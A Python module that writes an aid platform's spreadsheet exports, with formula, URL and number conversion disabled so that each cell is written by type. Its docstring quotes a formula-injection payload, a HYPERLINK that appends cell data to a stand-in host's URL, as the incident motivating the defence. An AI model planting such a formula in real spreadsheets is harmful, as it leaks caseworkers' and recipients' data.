"""The one way the platform writes spreadsheets (.xlsx): every export goes through here.

Everything written is data, never a formula: xlsxwriter's `write()` turns a string that starts with
`=` into a live formula (a charity's note `=HYPERLINK("http://x/?d="&A1,"点击")` became a link that
sent the caseworker's sheet away), and a string that looks like a URL or a number into those. So the
workbook is opened with those conversions off, and each cell is written by its Python type:

- `str` as a string cell, whatever it starts with (identity numbers and codes stay text);
- `int`, `float` as numbers; `Decimal` as a number too (money: see `yuan`), shown with two decimals;
- `date` as a date, `datetime` as Beijing time (a spreadsheet has no time zones; our users read
  local time) — both real date cells, so a spreadsheet can sort and filter them;
- `bool` as TRUE/FALSE, `None` as an empty cell.

    from safetynet.spreadsheet import Column, Sheet, workbook_bytes, yuan
    data = workbook_bytes([Sheet("名单", [Column("姓名"), Column("金额（元）", money=True)],
                                 [["张*", yuan(32000)]])])
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import xlsxwriter
from xlsxwriter.worksheet import Worksheet

BEIJING = dt.timezone(dt.timedelta(hours=8), "Asia/Shanghai")
# No conversion of strings into anything else: what is a string stays a string.
_SAFE_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"


def yuan(fen: int | None) -> Decimal | None:
    """Integer fen as yuan, exactly (no float on the way): written as a number with two decimals."""
    return None if fen is None else Decimal(fen).scaleb(-2)


def beijing(value: dt.datetime) -> dt.datetime:
    """A stored timestamp (UTC; SQLite hands it back without a zone) as Beijing wall-clock time."""
    if value.tzinfo is None:
        value = value.replace(tzinfo=dt.UTC)
    return value.astimezone(BEIJING).replace(tzinfo=None)


@dataclass(frozen=True)
class Column:
    title: str
    width: float | None = None
    money: bool = False  # numbers shown with two decimals (also implied by a Decimal value)


@dataclass
class Sheet:
    name: str
    columns: Sequence[Column]
    rows: Iterable[Sequence[Any]]
    #: lines above the table (title, region, date of the list): (label, value) pairs
    preamble: Sequence[tuple[str, Any]] = field(default_factory=list)
    freeze_header: bool = True


class SafeWorkbook:
    """An xlsxwriter workbook with every string conversion off, and `cell` writing each value by its
    type. For writers that need the library itself (e.g. writing column by column); the rest use
    `write_workbook` / `workbook_bytes`."""

    def __init__(self, target: str | Path | io.BytesIO) -> None:
        options: dict[str, bool] = dict(_SAFE_OPTIONS)
        if isinstance(target, io.BytesIO):
            options["in_memory"] = True
        self.book = xlsxwriter.Workbook(target if isinstance(target, io.BytesIO) else str(target), options)
        self._bold = self.book.add_format({"bold": True})
        self._money = self.book.add_format({"num_format": MONEY_FORMAT})
        self._date = self.book.add_format({"num_format": DATE_FORMAT})
        self._datetime = self.book.add_format({"num_format": DATETIME_FORMAT})

    def __enter__(self) -> SafeWorkbook:
        return self

    def __exit__(self, *_exc: object) -> None:
        self.book.close()

    def sheet(self, name: str) -> Worksheet:
        return self.book.add_worksheet(name[:31])  # Excel's limit on a sheet name

    def cell(self, sheet: Worksheet, row: int, col: int, value: Any, *, money: bool = False,
             bold: bool = False) -> None:
        """One cell, typed by its value (see the module docstring)."""
        if value is None:
            return
        if isinstance(value, str):
            sheet.write_string(row, col, value, self._bold if bold else None)
        elif isinstance(value, bool):
            sheet.write_boolean(row, col, value)
        elif isinstance(value, Decimal):
            sheet.write_number(row, col, float(value), self._money)
        elif isinstance(value, int | float):
            sheet.write_number(row, col, value, self._money if money else None)
        elif isinstance(value, dt.datetime):
            sheet.write_datetime(row, col, beijing(value), self._datetime)
        elif isinstance(value, dt.date):
            sheet.write_datetime(row, col, dt.datetime(value.year, value.month, value.day), self._date)
        else:  # anything else is shown as its text, still never a formula
            sheet.write_string(row, col, str(value))

    def table(self, spec: Sheet) -> None:
        """One sheet: the preamble lines, then a header row and the rows, with the header frozen
        and a filter on the columns."""
        sheet = self.sheet(spec.name)
        row = 0
        for label, value in spec.preamble:
            self.cell(sheet, row, 0, label, bold=True)
            self.cell(sheet, row, 1, value)
            row += 1
        if spec.preamble:
            row += 1  # a blank line between the preamble and the table
        header = row
        for col, column in enumerate(spec.columns):
            self.cell(sheet, row, col, column.title, bold=True)
            if column.width:
                sheet.set_column(col, col, column.width)
        money = [c.money for c in spec.columns]
        for values in spec.rows:
            row += 1
            for col, value in enumerate(values):
                self.cell(sheet, row, col, value, money=col < len(money) and money[col])
        if spec.freeze_header and spec.columns:
            sheet.freeze_panes(header + 1, 0)
        if row > header:
            sheet.autofilter(header, 0, row, max(len(spec.columns) - 1, 0))


def write_workbook(target: str | Path | io.BytesIO, sheets: Sequence[Sheet]) -> None:
    with SafeWorkbook(target) as book:
        for spec in sheets:
            book.table(spec)


def workbook_bytes(sheets: Sequence[Sheet]) -> bytes:
    buf = io.BytesIO()
    write_workbook(buf, sheets)
    return buf.getvalue()


XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
